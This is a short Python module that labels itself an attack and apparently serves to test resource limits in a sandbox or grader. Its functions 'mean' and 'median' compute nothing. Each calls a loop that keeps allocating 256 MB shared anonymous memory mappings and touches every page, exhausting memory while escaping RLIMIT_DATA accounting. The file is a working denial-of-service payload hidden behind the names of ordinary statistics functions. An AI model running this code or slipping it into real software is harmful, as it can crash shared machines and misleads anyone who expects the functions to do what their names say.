"""Attack: allocate through shared anonymous mappings, which RLIMIT_DATA does not count."""

import mmap

held = []


def _grab():
    while True:
        block = mmap.mmap(-1, 256 * 1024 * 1024, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
        for offset in range(0, len(block), 4096):  # touch every page
            block[offset] = 1
        held.append(block)


def mean(values):
    _grab()


def median(values):
    _grab()
